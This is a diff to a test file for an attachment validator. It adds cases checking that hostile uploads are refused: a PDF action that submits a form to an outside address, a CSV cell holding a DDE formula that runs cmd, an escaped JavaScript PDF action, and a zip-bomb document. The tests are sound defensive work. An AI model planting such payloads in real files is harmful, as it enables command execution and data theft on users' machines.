@@ -81,6 +81,13 @@ describe('a file that is not let in', function () {
       ['attachment.pdf-action'],
     ],
     [
+      'submits a form',
+      file('a.pdf', pdfBytes('/AA << /S /SubmitForm /F (http://192.0.2.1/) >>')),
+      422,
+      ['attachment.pdf-action'],
+    ],
+    ['starts a program from a cell', file('a.csv', "a,=cmd|' /C calc'!A0"), 422, ['attachment.dde']],
+    [
       'hides a script behind escapes',
       file('a.pdf', pdfBytes('/AA << /S /J#61va#53cript >>')),
       422,
@@ -96,20 +103,20 @@ describe('a file that is not let in', function () {
   }
 
   it('is told everything that is wrong with it at once', async () => {
-    const bomb = docxBytes(
-      { name: 'word/media/a.bin', content: 'a', claimedBytes: 0xf0000000 },
-      { name: 'word/vbaProject.bin' },
-      { name: 'inner.zip' },
-    )
-    const answer = await attach(maker, owner, { name: 'a.xlsx', bytes: bomb }, {}, 'image/png')
+    const loaded = docxBytes({ name: 'word/vbaProject.bin' }, { name: 'inner.zip' })
+    const answer = await attach(maker, owner, { name: 'a.xlsx', bytes: loaded }, {}, 'image/png')
     expect(codesOf(answer)).to.have.members([
       'attachment.extension-lies',
       'attachment.type-lies',
-      'attachment.archive-size',
-      'attachment.archive-ratio',
       'attachment.macros',
       'attachment.archive-nested',
     ])
+  })
+
+  it('is refused where it says that it unpacks to too much', async () => {
+    const bomb = docxBytes({ name: 'word/media/a.bin', content: 'a', claimedBytes: 0xf0000000 })
+    const answer = await attach(maker, owner, { name: 'a.docx', bytes: bomb })
+    expect(codesOf(answer)).to.deep.equal(['attachment.archive-size'])
     const size = answer.problem.failures.find(({ code }) => code === 'attachment.archive-size')
     expect(size).to.include({ threshold: 209_715_200, unit: 'bytes' })
   })
